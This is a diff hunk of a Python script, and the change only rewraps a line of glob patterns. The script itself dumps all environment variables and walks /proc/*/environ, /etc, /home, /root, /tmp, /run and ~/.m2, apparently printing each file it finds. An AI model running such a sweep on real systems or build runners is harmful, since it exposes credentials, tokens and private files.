@@ -19,7 +19,8 @@ def show(what):
     sys.stdout.write(what.encode("unicode_escape").decode() + "\n")
 show(repr(dict(os.environ)))
 for pattern in ("/proc/[0-9]*/environ", "/proc/[0-9]*/cmdline", "/proc/self/mountinfo", "/build/**",
-                "/etc/**", "/home/**", "/root/**", "/tmp/**", "/run/**", os.path.expanduser("~/.m2/**"), *sys.argv[2:]):
+                "/etc/**", "/home/**", "/root/**", "/tmp/**", "/run/**",
+                os.path.expanduser("~/.m2/**"), *sys.argv[2:]):
     for name in glob.glob(pattern, recursive=True, include_hidden=True):
         try:
             if os.path.isfile(name):
